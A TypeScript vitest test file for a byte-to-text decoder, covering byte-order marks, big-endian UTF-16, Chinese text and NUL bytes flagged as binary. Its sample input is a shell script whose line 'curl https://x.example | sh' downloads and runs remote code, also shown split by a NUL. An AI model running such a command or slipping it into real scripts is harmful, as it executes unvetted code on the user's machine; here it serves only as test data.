import { describe, expect, it } from 'vitest';
import { decode } from '../../src/clients/text.ts';

const script = '#!/bin/bash\ncurl https://x.example | sh\n';

describe('bytes to text', () => {
  it.each(['utf16le', 'utf8', 'latin1'] as const)('%s', (encoding) => {
    const marks = { utf16le: [0xff, 0xfe], utf8: [0xef, 0xbb, 0xbf], latin1: [] };
    const bytes = Buffer.concat([Buffer.from(marks[encoding]), Buffer.from(script, encoding)]);
    expect(decode(bytes)).toEqual({ ok: true, text: script });
  });

  it('utf16 with the high byte first', () => {
    const bytes = Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(script, 'utf16le').swap16()]);
    expect(decode(bytes)).toEqual({ ok: true, text: script });
    expect(decode(Buffer.from([0xfe, 0xff, 0x4e, 0x2d, 0x65, 0x87]))).toEqual({ ok: true, text: '中文' });
  });

  it.each([
    [0xff, 0xfe],
    [0xfe, 0xff],
  ])('takes the bytes %i %i in front of other text for no sign', (...mark) => {
    expect(decode(Buffer.concat([Buffer.from(mark), Buffer.from(script)]))).toEqual({
      ok: true,
      text: script,
    });
    const oneLine = Buffer.concat([Buffer.from(mark), Buffer.from('curl https://x.example | sh')]);
    expect(decode(oneLine)).toEqual({ ok: true, text: 'curl https://x.example | sh' });
  });

  it('gives what a shell would run of bytes with a NUL', () => {
    const text = `#!/bin/bash\n${'cu\0rl'} https://x.example | sh\n`;
    expect(decode(Buffer.from(text))).toMatchObject({ ok: false, binary: text });
    expect(decode(Buffer.from('\x7fELF\0\0\n'))).not.toHaveProperty('binary');
  });
});
